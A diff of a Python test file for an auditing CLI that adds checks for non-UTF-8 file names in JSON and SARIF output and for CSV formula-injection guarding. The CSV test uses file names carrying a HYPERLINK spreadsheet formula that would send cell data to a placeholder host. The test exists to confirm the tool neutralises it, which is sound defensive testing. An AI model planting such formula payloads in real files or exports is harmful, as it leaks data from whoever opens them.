@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 import json
 import os
 import shutil
@@ -350,10 +351,22 @@ def test_a_file_name_that_is_not_utf8_is_audited_not_a_crash(tmp_path: Path) -> 
         assert code == 1, (fmt, err)
     code, out, err = run("audit", "-f", "table", cwd=tmp_path)
     assert "b\\xff.py" in out
-    # JSON carries the name's own bytes, as git ls-files -z would.
-    result = runner_bytes("audit", "-f", "json", cwd=tmp_path)
-    assert b'"path": "b\xff.py"' in result
+    # JSON stays valid UTF-8 and loses nothing: U+FFFD for reading, the exact bytes in base64.
+    doc = json.loads(runner_bytes("audit", "-f", "json", cwd=tmp_path).decode("utf-8"))
+    (finding,) = doc["findings"]
+    assert finding["path"] == "b\ufffd.py"
+    assert base64.b64decode(finding["path_bytes"]) == b"b\xff.py"
+    (row,) = doc["inventory"]["files"]
+    assert base64.b64decode(row["path_bytes"]) == b"b\xff.py"
+    (tmp_path / "plain.py").write_text('M = "deepseek-chat"\n')
+    doc = json.loads(runner_bytes("audit", "plain.py", "-f", "json", cwd=tmp_path))
+    assert "path_bytes" not in doc["findings"][0]  # only where the name is not UTF-8
+    (tmp_path / "plain.py").unlink()
+    sarif = runner_bytes("audit", "-f", "sarif", cwd=tmp_path).decode("utf-8")
+    uri = json.loads(sarif)["runs"][0]["results"][0]["locations"][0]["physicalLocation"]
+    assert uri["artifactLocation"]["uri"] == "b%FF.py"
     assert run("audit", "--write-baseline", "base.json", cwd=tmp_path)[0] == 0
+    json.loads((tmp_path / "base.json").read_bytes().decode("utf-8"))
     assert run("audit", "--baseline", "base.json", cwd=tmp_path)[0] == 0
 
 
@@ -368,3 +381,22 @@ def runner_bytes(*args: str, cwd: Path) -> bytes:
         return CliRunner().invoke(app, list(args), catch_exceptions=False).stdout_bytes
     finally:
         os.chdir(old)
+
+
+@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_a_spreadsheet_would_evaluate_are_neutralised(
+    tmp_path: Path, lead: str
+) -> None:
+    import csv
+    import io
+
+    name = f'{lead}HYPERLINK("x.invalid?"&A1,"ok").py'
+    (tmp_path / name).write_text('M = "deepseek-chat"\n')
+    code, out, _ = run("audit", "-f", "csv", cwd=tmp_path)
+    assert code == 1
+    (row,) = list(csv.DictReader(io.StringIO(out)))
+    shown = {"\t": "\\t", "\r": "\\r"}.get(lead, lead)
+    # OWASP: a leading apostrophe makes the cell text; tab and CR are escaped, then guarded too.
+    expected = ("'" if lead in "=+-@" else "") + shown + name[1:]
+    assert row["path"] == expected
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())
